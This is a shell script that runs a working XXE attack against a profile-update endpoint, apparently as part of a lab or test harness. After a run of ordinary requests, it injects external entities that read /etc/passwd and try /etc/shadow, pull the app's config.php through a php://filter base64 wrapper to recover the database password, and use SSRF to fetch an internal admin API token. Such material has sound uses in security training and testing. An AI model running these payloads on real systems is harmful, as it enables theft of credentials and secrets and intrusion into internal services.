#!/bin/sh
# The XXE attacker: first LEGIT ordinary profile updates (as a user of the
# service would send, THINK seconds apart), then the attack of MODE:
#   files:    external entities reading /etc/passwd (works) and /etc/shadow
#             (fails: the service cannot read it)
#   config:   an entity reading the app's own config.php through the
#             php://filter base64 wrapper: the database password leaks
#   ssrf:     an entity with an http:// URL: the service itself fetches the
#             internal admin API's token and hands it over
# Exits 0 when every step ended as designed.
set -eu
url="http://$TARGET/profile.php"
post() { curl -sS -A "$AGENT" -H 'Content-Type: application/xml' --data-binary @- "$url"; }
i=0
while [ "$i" -lt "$LEGIT" ]; do
    printf '<?xml version="1.0"?>\n<profile><name>%s</name><city>%s</city></profile>\n' \
        "$NAME" "$CITY" | post
    i=$((i + 1))
    sleep "$THINK"
done
entity() { # SYSTEM-ID
    printf '<?xml version="1.0"?>\n<!DOCTYPE profile [<!ENTITY %s SYSTEM "%s">]>\n<profile><name>&%s;</name><city>%s</city></profile>\n' \
        "$ENTITY" "$1" "$ENTITY" "$CITY"
}
case "$MODE" in
files)
    out=$(entity file:///etc/passwd | post)
    echo "$out"
    echo "$out" | grep -q '^Saved profile of root:x:0:0'
    out=$(entity file:///etc/shadow | post || true)
    echo "$out"
    # designed to fail: www-data cannot read the shadow file
    if echo "$out" | grep -q 'root:'; then exit 1; fi
    ;;
config)
    out=$(entity "php://filter/convert.base64-encode/resource=/srv/app/config.php" | post)
    echo "$out"
    leaked=$(echo "$out" | sed -n 's/^Saved profile of \([A-Za-z0-9+/=]*\) from .*/\1/p' | base64 -d)
    echo "$leaked"
    echo "$leaked" | grep -q 'db_password'
    ;;
ssrf)
    out=$(entity "http://$INTERNAL/admin/token" | post)
    echo "$out"
    echo "$out" | grep -q "^Saved profile of $TOKEN"
    ;;
*)
    echo "unknown MODE $MODE" >&2
    exit 2
    ;;
esac
